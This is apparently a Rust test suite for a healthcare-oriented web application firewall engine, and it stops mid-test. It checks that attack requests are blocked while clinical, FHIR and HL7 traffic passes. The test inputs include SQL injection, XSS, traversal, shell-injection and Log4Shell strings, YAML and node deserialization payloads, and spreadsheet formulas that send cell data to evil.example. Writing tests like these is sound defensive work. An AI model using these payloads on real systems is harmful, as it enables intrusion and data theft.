//! Behaviour of the embedded rulesets: each attack class is blocked by the rule we expect, and
//! healthcare traffic that looks like keywords (clinical text, FHIR, HL7 v2, C-CDA, SMART) passes.
#![allow(clippy::unwrap_used)]

use palisade_engine::{embedded_rulesets, Engine, EngineConfig, RequestHead, UserRules, Verdict};

#[allow(dead_code)] // the benchmarks' request fixtures; these tests use the upload and compression ones
#[path = "../benches/fixtures/mod.rs"]
mod fixtures;

use fixtures::{gzip, zlib};

fn engine() -> Engine {
    Engine::compile(
        embedded_rulesets(),
        &UserRules::empty(),
        &EngineConfig::default(),
    )
    .unwrap()
}

fn get(e: &Engine, target: &str) -> Verdict {
    let h: [(&str, &[u8]); 2] = [
        ("Host", b"app.example.org"),
        ("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)"),
    ];
    let mut tx = e.transaction();
    tx.inspect_head(&RequestHead {
        method: "GET",
        target: target.as_bytes(),
        headers: &h,
    });
    tx.into_verdict()
}

fn with_header(e: &Engine, name: &str, value: &str) -> Verdict {
    let h: [(&str, &[u8]); 2] = [("Host", b"app.example.org"), (name, value.as_bytes())];
    let mut tx = e.transaction();
    tx.inspect_head(&RequestHead {
        method: "GET",
        target: b"/",
        headers: &h,
    });
    tx.into_verdict()
}

fn post(e: &Engine, target: &str, ct: &str, body: &str) -> Verdict {
    let h: [(&str, &[u8]); 2] = [
        ("Host", b"app.example.org"),
        ("Content-Type", ct.as_bytes()),
    ];
    let mut tx = e.transaction();
    tx.inspect_head(&RequestHead {
        method: "POST",
        target: target.as_bytes(),
        headers: &h,
    });
    tx.inspect_body(Some(ct.as_bytes()), body.as_bytes());
    tx.into_verdict()
}

fn fired(v: &Verdict, id: u32) -> bool {
    v.hits.iter().any(|h| h.rule_id == id)
}

#[track_caller]
fn assert_blocked_by(v: &Verdict, id: u32) {
    assert!(v.blocked, "not blocked: {v:#?}");
    assert!(fired(v, id), "rule {id} did not fire: {v:#?}");
}

#[track_caller]
fn assert_passes(v: &Verdict) {
    assert!(!v.blocked, "blocked: {v:#?}");
}

#[test]
fn sqli() {
    let e = engine();
    assert_blocked_by(
        &get(&e, "/?id=1%20UNION%20ALL%20SELECT%20NULL,version()--"),
        240100,
    );
    assert_blocked_by(&get(&e, "/?id=1%27%20AND%20SLEEP(5)--"), 240110);
    assert_blocked_by(&get(&e, "/?q=%27%20or%20%271%27=%271"), 240120);
    assert_blocked_by(&get(&e, "/?id=1;%20DROP%20TABLE%20users"), 240150);
    assert_blocked_by(
        &get(&e, "/?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
        240100,
    );
    assert_blocked_by(
        &post(
            &e,
            "/api",
            "application/json",
            r#"{"q":"x' UNION SELECT * FROM information_schema.tables--"}"#,
        ),
        240160,
    );
}

#[test]
fn xss() {
    let e = engine();
    assert_blocked_by(&get(&e, "/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 230100);
    assert_blocked_by(&get(&e, "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 230110);
    assert_blocked_by(&get(&e, "/?u=javascript:alert(document.cookie)"), 230120);
    assert_blocked_by(&get(&e, "/?u=java%26%23x09;script:alert(1)"), 230120);
    assert_blocked_by(&get(&e, "/?q=%EF%BC%9Cscript%EF%BC%9E"), 230100);
    assert_blocked_by(&get(&e, "/?q=%3Csvg/onload=confirm(1)%3E"), 230110);
}

#[test]
fn traversal_and_files() {
    let e = engine();
    assert_blocked_by(&get(&e, "/?file=../../../../etc/passwd"), 130100);
    assert_blocked_by(
        &get(&e, "/?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        130100,
    );
    assert_blocked_by(
        &get(&e, "/?file=%252e%252e%252f%252e%252e%252fboot.ini"),
        130100,
    );
    assert_blocked_by(&get(&e, "/?p=..0x5c..0x5cwindows0x5csystem32"), 130160);
    assert_blocked_by(&get(&e, "/.git/config"), 120100);
    assert_blocked_by(&get(&e, "/backup/db.sql"), 120110);
    assert_blocked_by(&get(&e, "/msadc/msadcs.dll"), 120130);
    assert_blocked_by(&get(&e, "/_vti_bin/fpcount.exe"), 120130);
    assert_passes(&get(&e, "/.well-known/smart-configuration"));
}

#[test]
fn nul_bytes_once_or_twice_encoded() {
    let e = engine();
    assert_blocked_by(&get(&e, "/pay?price=950%00&b=ok"), 100110);
    // `%2500` is a NUL after the application's own second decode.
    assert_blocked_by(&get(&e, "/pay?price=950%2500&b=ok"), 100110);
    assert_blocked_by(
        &post(
            &e,
            "/cart",
            "application/x-www-form-urlencoded",
            "b2=Empty+cart%2500",
        ),
        100110,
    );
    assert_passes(&get(&e, "/pay?discount=100%25&b=ok"));
}

#[test]
fn rce_php_java() {
    let e = engine();
    assert_blocked_by(&get(&e, "/?host=127.0.0.1;cat%20/etc/passwd"), 150100);
    assert_blocked_by(&get(&e, "/?x=$(whoami)"), 150110);
    assert_blocked_by(
        &with_header(&e, "User-Agent", "() { :;}; /bin/bash -c id"),
        150120,
    );
    assert_blocked_by(&get(&e, "/?c=cmd.exe%20/c%20dir"), 150140);
    assert_blocked_by(&get(&e, "/?c=powershell%20-nop%20-enc%20SQBFAFgA"), 150150);
    assert_blocked_by(&get(&e, "/?x=%3C?php%20system($_GET[1]);%20?%3E"), 160100);
    assert_blocked_by(
        &get(
            &e,
            "/?f=php://filter/convert.base64-encode/resource=index.php",
        ),
        140110,
    );
    assert_blocked_by(
        &with_header(&e, "X-Api-Version", "${jndi:ldap://evil.example/a}"),
        170100,
    );
    assert_blocked_by(&get(&e, "/?x=$%7B$%7Blower:j%7Dndi:ldap://x/a%7D"), 170100);
    assert_blocked_by(&with_header(&e, "Cookie", "x=java.lang.Runtime"), 170120);
}

#[test]
fn ssrf_xxe_ssti_nosql_crlf() {
    let e = engine();
    assert_blocked_by(
        &get(&e, "/?url=http://169.254.169.254/latest/meta-data/"),
        180100,
    );
    assert_blocked_by(&get(&e, "/?next=http://127.0.0.1:8080/admin"), 180110);
    assert_blocked_by(&get(&e, "/?u=gopher://internal:25/_HELO"), 180120);
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><d>&f;</d>"#;
    assert_blocked_by(&post(&e, "/api", "application/xml", xxe), 190100);
    assert_blocked_by(&get(&e, "/?name=%7B%7B7*7%7D%7D"), 200100);
    assert_blocked_by(&get(&e, "/?name=%7B%7B''.__class__.__mro__%7D%7D"), 200110);
    assert_blocked_by(&get(&e, "/login?user[$ne]=x&pass[$ne]=y"), 210100);
    assert_blocked_by(
        &post(&e, "/login", "application/json", r#"{"user":{"$gt":""}}"#),
        210100,
    );
    assert_blocked_by(&get(&e, "/?r=x%0d%0aSet-Cookie:%20a=b"), 220100);
}

#[test]
fn scanners_and_protocol() {
    let e = engine();
    assert_blocked_by(
        &with_header(&e, "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        110100,
    );
    let v = post(&e, "/", "text/plain; charset=utf-7", "+ADw-script+AD4-");
    assert_blocked_by(&v, 100100);
    // Symfony and IIS-era stacks route by these instead of the request line.
    assert_blocked_by(&with_header(&e, "X-Original-URL", "/admin/users"), 100390);
    assert_blocked_by(&with_header(&e, "x-rewrite-url", "/admin"), 100390);
    assert!(with_header(&e, "X-Original-Host", "app.example.org")
        .hits
        .is_empty());
    let v = post(
        &e,
        "/up",
        "multipart/form-data; boundary=a; boundary=b",
        "--a\r\n",
    );
    assert_blocked_by(&v, 100340);
    // A part after the closing delimiter (PHP-style parsers read it; the epilogue is inspected).
    let v = post(
        &e,
        "/up",
        "multipart/form-data; boundary=a",
        "--a\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--a--\r\n--a\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--a--\r\n",
    );
    assert_blocked_by(&v, 100340);
    assert!(
        fired(&v, 240100),
        "the epilogue's attack is named too: {v:#?}"
    );
    // Two different Content-Type fields on a body: an octet-stream label would hide the JSON
    // from inspection. Without a body, or with the same type twice, there is nothing to misread.
    let two_types = |second: &[u8], length: &[u8]| {
        let h: [(&str, &[u8]); 4] = [
            ("Host", b"app.example.org"),
            ("Content-Type", b"application/octet-stream"),
            ("Content-Type", second),
            ("Content-Length", length),
        ];
        let mut tx = e.transaction();
        tx.inspect_head(&RequestHead {
            method: "POST",
            target: b"/api",
            headers: &h,
        });
        tx.into_verdict()
    };
    assert_blocked_by(&two_types(b"application/json", b"40"), 100380);
    assert!(two_types(b"application/json", b"0").hits.is_empty());
    assert!(two_types(b"Application/Octet-Stream", b"40")
        .hits
        .is_empty());
    let v = post(&e, "/api", "application/json", r#"{"a": [1, 2"#);
    assert!(
        fired(&v, 100300) && !v.blocked,
        "malformed JSON alone is a finding, not a block: {v:#?}"
    );
}

#[test]
fn clinical_text_keywords_pass() {
    let e = engine();
    for note in [
        "Patient asked to select a time to drop off the sample; union rep present.",
        "Watch for signs of infection | follow up in 2 weeks ^ as needed",
        "Eggs (edible) (substance) - allergy (finding)",
        "Time period when name was/is in use (USCDI)",
        "Call (555)-555-1234 -- after 5pm; drop by the clinic",
        "BP 120/80, HR 72 & SpO2 98%; cat scan ordered; echo scheduled",
        "If not resolved, repeat CBC. Sleep (8 hours) advised.",
        "O'Brien said: 'I feel fine' or so he claims = stable",
    ] {
        let body = format!("note={}", form_value(note));
        assert_passes(&post(
            &e,
            "/notes",
            "application/x-www-form-urlencoded",
            &body,
        ));
        let json = format!(
            r#"{{"resourceType":"Observation","valueString":{}}}"#,
            json_string(note)
        );
        assert_passes(&post(
            &e,
            "/fhir/Observation",
            "application/fhir+json",
            &json,
        ));
    }
}

/// `s` as a form field's value (the characters these tests' texts need escaped).
fn form_value(s: &str) -> String {
    s.replace('%', "%25")
        .replace('&', "%26")
        .replace(';', "%3B")
        .replace(' ', "+")
}

fn json_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn fhir_narrative_is_not_xss_but_script_in_it_is() {
    let e = engine();
    let ok = r#"{"resourceType":"Patient","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p style=\"color:red\">Jane <b>Doe</b></p><img src=\"http://hl7.org/fhir/x.png\" alt=\"x\"/><table><tr><td>1</td></tr></table></div>"}}"#;
    assert_passes(&post(&e, "/fhir/Patient", "application/fhir+json", ok));
    let bad = r#"{"resourceType":"Patient","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=x onerror=alert(1)></div>"}}"#;
    assert_blocked_by(
        &post(&e, "/fhir/Patient", "application/fhir+json", bad),
        230110,
    );
    let sqli_in_markup = r#"{"html":"<div><p>x' UNION SELECT password FROM users--</p></div>"}"#;
    assert_blocked_by(
        &post(&e, "/notes", "application/json", sqli_in_markup),
        240100,
    );
}

#[test]
fn hl7_delimiters_are_not_shell() {
    let e = engine();
    let msg = "MSH|^~\\&|LAB|FAC|EHR|FAC|202401011200||ORU^R01|123|P|2.5\rPID|1||12345^^^MRN||DOE^JOHN||19700101|M\rOBX|1|TX|11506-3^Progress note^LN||Pain score 7 & rising; echocardiogram ordered; id band checked|\r";
    let v = post(&e, "/hl7", "x-application/hl7-v2+er7", msg);
    assert_passes(&v);
    assert!(!v.hits.iter().any(|h| h.category == "rce"), "{v:#?}");
}

#[test]
fn smart_oauth_parameters_pass() {
    let e = engine();
    assert_passes(&get(
        &e,
        "/authorize?response_type=code&client_id=app&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&scope=launch%2Fpatient%20patient%2F*.rs%20openid%20fhirUser&state=abc&aud=https%3A%2F%2Ffhir.example.org%2Fr4",
    ));
    assert_passes(&get(
        &e,
        "/fhir/Observation?patient=123&code=http://loinc.org|8867-4&_sort=-date&date=ge2020-01-01",
    ));
}

#[test]
fn rule_ids_and_masked_snippets_for_audit() {
    let e = engine();
    let v = get(
        &e,
        "/?q=JohnSmith123%27%20UNION%20SELECT%20ssn%20FROM%20patients--",
    );
    let h = v.hits.iter().find(|h| h.rule_id == 240100).unwrap();
    assert_eq!(h.category, "sqli");
    assert_eq!(h.target, "args:q");
    assert!(h.snippet.chars().count() <= 32);
    assert!(!h.snippet.contains("John"), "{}", h.snippet);
    assert!(h.transforms.contains(&"url_decode"));
}

#[test]
fn paranoia_four_compiles_more_rules() {
    let p1 = engine().rule_count();
    let cfg = EngineConfig {
        paranoia: 4,
        ..EngineConfig::default()
    };
    let p4 = Engine::compile(embedded_rulesets(), &UserRules::empty(), &cfg)
        .unwrap()
        .rule_count();
    assert!(p4 > p1);
}

fn document_reference(data: &str) -> String {
    format!(
        r#"{{"resourceType":"DocumentReference","status":"current","content":[{{"attachment":{{"contentType":"application/pdf","title":"card.pdf","data":"{data}"}}}}]}}"#
    )
}

#[test]
fn base64_attachments_are_files_but_encoded_payloads_are_still_read() {
    let e = engine();
    // Scanned documents inline in FHIR JSON and in a C-CDA (wrapped at 76): files, no hits.
    let files = fixtures::binary_file(400 * 1024);
    for pdf in files.chunks(100 * 1024) {
        let v = post(
            &e,
            "/fhir/r4/DocumentReference",
            "application/fhir+json",
            &document_reference(&fixtures::base64(pdf, 0)),
        );
        assert!(v.hits.is_empty(), "{v:#?}");
        let ccda = format!(
            "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><component><nonXMLBody><text mediaType=\"application/pdf\" representation=\"B64\">\n{}\n</text></nonXMLBody></component></ClinicalDocument>",
            fixtures::base64(pdf, 76)
        );
        let v = post(&e, "/ccda", "application/xml", &ccda);
        assert!(v.hits.is_empty(), "{v:#?}");
    }
    // A Java serialized object (a gadget chain is kilobytes of base64): its magic is at the
    // start, which is still inspected.
    let gadget = [
        b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue".as_slice(),
        &files[..3000],
    ]
    .concat();
    let v = post(
        &e,
        "/fhir/r4/DocumentReference",
        "application/fhir+json",
        &document_reference(&fixtures::base64(&gadget, 0)),
    );
    assert!(fired(&v, 170160), "{v:#?}");
    // A node-serialize payload padded past the inspected start: text, decoded and read whole.
    let node = format!(
        r#"{{"pad":"{}","rce":"_$$ND_FUNC$$_function(){{require('child_process').exec('id')}}()"}}"#,
        "x".repeat(2000)
    );
    let v = post(
        &e,
        "/api/profile",
        "application/json",
        &format!(r#"{{"state":"{}"}}"#, fixtures::base64(node.as_bytes(), 0)),
    );
    assert_blocked_by(&v, 170175);
}

/// A POST whose body was sent with `Content-Encoding: coding`.
fn post_encoded(e: &Engine, ct: &str, coding: &str, body: &[u8]) -> Verdict {
    let h: [(&str, &[u8]); 3] = [
        ("Host", b"app.example.org"),
        ("Content-Type", ct.as_bytes()),
        ("Content-Encoding", coding.as_bytes()),
    ];
    let mut tx = e.transaction();
    tx.inspect_head(&RequestHead {
        method: "POST",
        target: b"/api",
        headers: &h,
    });
    tx.inspect_body(Some(ct.as_bytes()), body);
    tx.into_verdict()
}

#[test]
fn compressed_bodies_are_inspected_as_the_app_inflates_them() {
    let e = engine();
    let form_ct = "application/x-www-form-urlencoded";
    // The attack inside the compressed bytes, found by the rule that finds it uncompressed.
    let sqli = b"id=1%20UNION%20ALL%20SELECT%20NULL,version()--";
    assert_blocked_by(&post_encoded(&e, form_ct, "gzip", &gzip(sqli)), 240100);
    assert_blocked_by(&post_encoded(&e, form_ct, "x-gzip", &gzip(sqli)), 240100);
    let xss = br#"{"name":[{"given":["<img src=x onerror=alert(1)>"]}]}"#;
    assert_blocked_by(
        &post_encoded(&e, "application/fhir+json", "deflate", &zlib(xss)),
        230110,
    );
    // Clinical content compressed passes, and nothing about its coding fires.
    let note = br#"{"resourceType":"Observation","status":"final","note":[{"text":"Patient reports 2-3 episodes/week; BP 128/82 (left arm)."}]}"#;
    let v = post_encoded(&e, "application/fhir+json", "gzip", &gzip(note));
    assert!(v.hits.is_empty(), "{v:#?}");
    // What cannot be seen whole is refused by its own rule.
    assert_blocked_by(&post_encoded(&e, form_ct, "br", b"\x1b\x03\x00"), 100350);
    assert_blocked_by(
        &post_encoded(&e, form_ct, "gzip, gzip", &gzip(&gzip(sqli))),
        100350,
    );
    assert_blocked_by(&post_encoded(&e, form_ct, "gzip", sqli), 100360);
    let bomb = gzip(&vec![b'a'; EngineConfig::default().max_inspect_body + 1]);
    assert_blocked_by(&post_encoded(&e, "text/plain", "gzip", &bomb), 100370);
    // A compressed body is inflated whatever its label; what it inflates to decides the rest.
    assert_blocked_by(
        &post_encoded(&e, "image/png", "br", b"\x1b\x03\x00"),
        100350,
    );
    assert_blocked_by(
        &post_encoded(&e, "application/octet-stream", "gzip", &gzip(xss)),
        230110,
    );
    assert!(
        post_encoded(&e, "image/png", "gzip", &gzip(PNG_WITH_SCRIPT))
            .hits
            .is_empty()
    );
}

/// A PNG signature and header chunk, then markup in a text chunk: media, not an app's input.
const PNG_WITH_SCRIPT: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0tEXtComment\0<script>alert(1)</script>";

#[test]
fn binary_labels_do_not_hide_text_bodies() {
    let e = engine();
    // `identity`: the bytes as sent. An app that parses whatever it is sent reads these as JSON,
    // a form and XML, so they are inspected as such whatever their label says.
    let json_xss = br#"{"name":[{"given":["<img src=x onerror=alert(1)>"]}]}"#;
    assert_blocked_by(&post_encoded(&e, "image/png", "identity", json_xss), 230110);
    let form_sqli = b"id=1%20UNION%20ALL%20SELECT%20NULL,version()--";
    assert_blocked_by(
        &post_encoded(&e, "application/octet-stream", "identity", form_sqli),
        240100,
    );
    let xxe =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let v = post_encoded(&e, "application/pdf", "identity", xxe);
    assert!(v.blocked, "{v:#?}");
    // A multipart field part labelled as media is still the string the app reads.
    let part = "--b\r\nContent-Disposition: form-data; name=\"id\"\r\nContent-Type: image/png\r\n\r\n1 UNION ALL SELECT NULL,version()--\r\n--b--\r\n";
    assert_blocked_by(
        &post(&e, "/upload", "multipart/form-data; boundary=b", part),
        240100,
    );
    // Real media passes, even with markup inside it.
    let v = post_encoded(&e, "image/png", "identity", PNG_WITH_SCRIPT);
    assert!(v.hits.is_empty(), "{v:#?}");
    let pdf = b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (app.alert('<script>')) >> endobj";
    let v = post_encoded(&e, "application/pdf", "identity", pdf);
    assert!(v.hits.is_empty(), "{v:#?}");
    // Clinical text uploaded as octet-stream passes, as it does as text/plain.
    let note = b"Discharge summary: patient to select follow-up; drop BP meds if < 100/60. Union of fracture confirmed.";
    let v = post_encoded(&e, "application/octet-stream", "identity", note);
    assert!(v.hits.is_empty(), "{v:#?}");
}

#[test]
fn yaml_deserialization_tags() {
    let e = engine();
    let yaml = "application/yaml";
    for body in [
        "cmd: !!python/object/apply:os.system ['id']",
        "x: !!python/name:subprocess.Popen",
        "--- !ruby/object:Gem::Installer\ni: x",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
        "f: !!js/function 'function(){ return process.mainModule }'",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
    ] {
        assert_blocked_by(&post(&e, "/import", yaml, body), 170190);
    }
    // The same tags inside a form field (the app may feed a field to its YAML loader).
    assert_blocked_by(
        &post(
            &e,
            "/import",
            "application/x-www-form-urlencoded",
            "config=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%27id%27%5D",
        ),
        170190,
    );
    // Core YAML tags and exclamation marks in clinical text are not deserialization.
    for body in [
        "count: !!int \"3\"\nname: !!str 007\nflag: !!bool yes",
        "note: Pain 9/10!! Patient asked for org. chart of the ward; java. (coffee) declined.",
    ] {
        assert!(post(&e, "/import", yaml, body).hits.is_empty(), "{body}");
    }
}

/// A request with its method, target, extra headers and an optional form body.
fn request(
    e: &Engine,
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    form: &str,
) -> Verdict {
    let mut h: Vec<(&str, &[u8])> = vec![("Host", b"app.example.org")];
    h.extend(headers.iter().map(|(n, v)| (*n, v.as_bytes())));
    let ct = b"application/x-www-form-urlencoded";
    if !form.is_empty() {
        h.push(("Content-Type", ct));
    }
    let mut tx = e.transaction();
    tx.inspect_head(&RequestHead {
        method,
        target: target.as_bytes(),
        headers: &h,
    });
    if !form.is_empty() {
        tx.inspect_body(Some(ct), form.as_bytes());
    }
    tx.into_verdict()
}

#[test]
fn a_post_is_also_the_method_its_override_names() {
    let e = engine();
    // Rack, Laravel and Express's method-override make a POST any method these name; the method
    // allowlist (100400) holds for it too.
    let header = [("X-HTTP-Method-Override", "TRACE")];
    assert_blocked_by(&request(&e, "POST", "/api", &header, ""), 100400);
    assert_blocked_by(&request(&e, "POST", "/api?_method=trace", &[], ""), 100400);
    assert_blocked_by(
        &request(&e, "POST", "/api", &[], "_method=CONNECT&x=1"),
        100400,
    );
    // Rails forms send `_method=delete`; frameworks ignore overrides on anything but a POST.
    assert!(request(
        &e,
        "POST",
        "/records/7",
        &[],
        "_method=delete&authenticity_token=abc"
    )
    .hits
    .is_empty());
    assert!(request(&e, "GET", "/api", &header, "").hits.is_empty());

    // An exclusion scoped to POST does not follow the request to the method the app runs.
    let user = UserRules::from_palisade_yml(
        "exclusions:\n  - category: sqli\n    path: /search\n    methods: [POST]\n",
    )
    .unwrap();
    let e = Engine::compile(embedded_rulesets(), &user, &EngineConfig::default()).unwrap();
    let sqli = "q=1%20UNION%20ALL%20SELECT%20NULL,version()--";
    assert!(request(&e, "POST", &format!("/search?{sqli}"), &[], "")
        .hits
        .is_empty());
    let delete = [("X-HTTP-Method-Override", "DELETE")];
    assert_blocked_by(
        &request(&e, "POST", &format!("/search?{sqli}"), &delete, ""),
        240100,
    );
    assert_blocked_by(
        &request(&e, "POST", &format!("/search?_method=PUT&{sqli}"), &[], ""),
        240100,
    );
    assert_blocked_by(
        &request(
            &e,
            "POST",
            "/search",
            &[],
            &format!("_method=delete&{sqli}"),
        ),
        240100,
    );
    // `_method=post` keeps it a POST.
    assert!(
        request(&e, "POST", "/search", &[], &format!("_method=post&{sqli}"))
            .hits
            .is_empty()
    );
}

#[test]
fn xml_is_read_in_the_encoding_it_declares() {
    let e = engine();
    let xxe = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    // EBCDIC, which Xerces detects from the first bytes: opaque to a byte scanner.
    let ebcdic: Vec<u8> = format!(r#"<?xml version="1.0" encoding="IBM037"?>{xxe}"#)
        .chars()
        .map(|c| match c {
            'a'..='i' => 0x81 + (c as u8 - b'a'),
            'j'..='r' => 0x91 + (c as u8 - b'j'),
            's'..='z' => 0xA2 + (c as u8 - b's'),
            'A'..='I' => 0xC1 + (c as u8 - b'A'),
            'J'..='R' => 0xD1 + (c as u8 - b'J'),
            'S'..='Z' => 0xE2 + (c as u8 - b'S'),
            '0'..='9' => 0xF0 + (c as u8 - b'0'),
            '<' => 0x4C,
            '?' => 0x6F,
            _ => 0x40,
        })
        .collect();
    assert_eq!(&ebcdic[..4], b"\x4C\x6F\xA7\x94");
    assert_blocked_by(
        &post_encoded(&e, "application/xml", "identity", &ebcdic),
        100100,
    );
    let utf7 = r#"<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r+AD4-<r/>"#;
    assert_blocked_by(&post(&e, "/soap", "text/xml", utf7), 100100);
    // UTF-16 is refused as the same charset would be in a Content-Type, and its content is
    // still inspected as the app reads it.
    let utf16 = |doc: &str| -> Vec<u8> {
        let mut b = vec![0xFF, 0xFE];
        b.extend(doc.encode_utf16().flat_map(u16::to_le_bytes));
        b
    };
    let v = post_encoded(&e, "application/xml", "identity", &utf16(xxe));
    assert_blocked_by(&v, 100100);
    assert!(fired(&v, 130100), "{v:#?}");
    let user =
        UserRules::from_palisade_yml("exclusions:\n  - rule: 100100\n    path: /api\n").unwrap();
    let e = Engine::compile(embedded_rulesets(), &user, &EngineConfig::default()).unwrap();
    let note = r#"<?xml version="1.0" encoding="UTF-16"?><Patient><name>Jane O'Reilly</name><note>select a follow-up; drop-in clinic</note></Patient>"#;
    let v = post_encoded(&e, "application/xml", "identity", &utf16(note));
    assert!(v.hits.is_empty(), "{v:#?}");
    let v = post_encoded(&e, "application/xml", "identity", &utf16(xxe));
    assert!(v.blocked && fired(&v, 130100), "{v:#?}");
}

#[test]
fn json_is_read_in_the_encoding_its_parser_detects() {
    let e = engine();
    let sqli = r#"{"q":"1 UNION ALL SELECT NULL,version()--"}"#;
    let utf16: Vec<u8> = sqli.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let v = post_encoded(&e, "application/json", "identity", &utf16);
    assert_blocked_by(&v, 100100);
    assert!(
        v.hits
            .iter()
            .any(|h| h.rule_id == 240100 && h.target == "json:$.q"),
        "{v:#?}"
    );
    let utf32: Vec<u8> = sqli
        .chars()
        .flat_map(|c| (c as u32).to_le_bytes())
        .collect();
    assert_blocked_by(
        &post_encoded(&e, "application/json", "identity", &utf32),
        100100,
    );
    // A UTF-8 byte-order mark is UTF-8: parsed as JSON, nothing about its charset fires.
    let bom = [&b"\xEF\xBB\xBF"[..], sqli.as_bytes()].concat();
    let v = post_encoded(&e, "application/json", "identity", &bom);
    assert!(!fired(&v, 100100), "{v:#?}");
    assert!(
        v.hits
            .iter()
            .any(|h| h.rule_id == 240100 && h.target == "json:$.q"),
        "{v:#?}"
    );
    let note = r#"{"resourceType":"Observation","note":[{"text":"select a follow-up; drop-in"}]}"#;
    let bom = [&b"\xEF\xBB\xBF"[..], note.as_bytes()].concat();
    assert!(post_encoded(&e, "application/fhir+json", "identity", &bom)
        .hits
        .is_empty());
}

#[test]
fn prototype_pollution_in_every_shape_a_parser_merges() {
    let e = engine();
    assert_blocked_by(&get(&e, "/x?__proto__[isAdmin]=true"), 170180);
    assert_blocked_by(&get(&e, "/x?constructor[prototype][isAdmin]=1"), 170180);
    assert_blocked_by(&get(&e, "/x?a.constructor.prototype.isAdmin=1"), 170180);
    let form = "application/x-www-form-urlencoded";
    assert_blocked_by(
        &post(&e, "/x", form, "a[constructor][prototype][isAdmin]=1"),
        170180,
    );
    let json = "application/json";
    assert_blocked_by(
        &post(&e, "/x", json, r#"{"__proto__":{"isAdmin":true}}"#),
        170180,
    );
    let v = post(
        &e,
        "/x",
        json,
        r#"{"a":{"constructor":{"prototype":{"isAdmin":true}}}}"#,
    );
    assert_blocked_by(&v, 170180);
    // Either word alone is ordinary.
    for body in [
        r#"{"constructor":"Acme Builders","prototype":"v2 device"}"#,
        r#"{"device":{"prototype":true},"note":"constructor visited"}"#,
    ] {
        assert!(post(&e, "/x", json, body).hits.is_empty(), "{body}");
    }
}

#[test]
fn unsigned_json_web_tokens_are_refused_wherever_they_travel() {
    let e = engine();
    // {"alg":"none","typ":"JWT"} . {"sub":"admin"} . (no signature)
    let unsigned = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.";
    let bearer = format!("Bearer {unsigned}");
    assert_blocked_by(&with_header(&e, "Authorization", &bearer), 100420);
    assert_blocked_by(
        &with_header(&e, "Cookie", &format!("session={unsigned}")),
        100420,
    );
    assert_blocked_by(&get(&e, &format!("/cb?id_token={unsigned}")), 100420);
    // An ordinary signed token (HS256) passes.
    let signed = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
    let v = with_header(&e, "Authorization", &format!("Bearer {signed}"));
    assert!(v.hits.is_empty(), "{v:#?}");
}

#[test]
fn spreadsheet_formulas_that_run_or_fetch() {
    // Stored in a field, they run when staff open an export in Excel or Sheets.
    let e = engine();
    let form = "application/x-www-form-urlencoded";
    for value in [
        "%3Dcmd%7C%27%20%2FC%20calc%27%21A0",
        "%40SUM%281%2B9%29*cmd%7C%27%20%2FC%20calc%27%21A0",
        "%3DHYPERLINK%28%22http%3A%2F%2Fevil.example%2F%3Fd%3D%22%26A1%2C%22Results%22%29",
        "%2BIMPORTXML%28CONCAT%28%22http%3A%2F%2Fevil.example%2F%22%2CA2%29%2C%22%2F%2Fa%22%29",
        "%22%3DWEBSERVICE%28%22http%3A%2F%2Fevil.example%22%29",
    ] {
        let v = post(&e, "/intake", form, &format!("name=x&note={value}"));
        assert_blocked_by(&v, 250100);
    }
    let csv =
        "mrn,name,note\n1001,Jane,\"ok\"\n1002,Joe,=HYPERLINK(\"http://evil.example/\",\"x\")\n";
    assert_blocked_by(&post(&e, "/import", "text/csv", csv), 250100);
    // Signs, equals and the words alone are clinical text.
    for note in [
        "-5 mg today, +1 (555) 010-0100, BP=120/80, @home; =normal",
        "Sent hyperlink to portal; cmd line tools not used; DDE (developmental delay) eval",
        "- cmd: none | 'see chart'",
    ] {
        let body = format!("note={}", note.replace(' ', "+").replace('&', "%26"));
        assert!(post(&e, "/notes", form, &body).hits.is_empty(), "{note}");
    }
}

#[test]
fn uploaded_pages_with_script_are_refused_and_plain_ones_pass() {
    // File contents are not inspected by default, but a page a browser renders from the app's
    // origin is stored XSS when it carries script.
    let e = engine();
    let upload = |filename: &str, ct: &str, content: &str| {
        let body = format!("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: {ct}\r\n\r\n{content}\r\n--b--\r\n");
        post(&e, "/upload", "multipart/form-data; boundary=b", &body)
    };
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>"#;
    assert_blocked_by(&upload("logo.svg", "image/svg+xml", svg), 190140);
    let html =
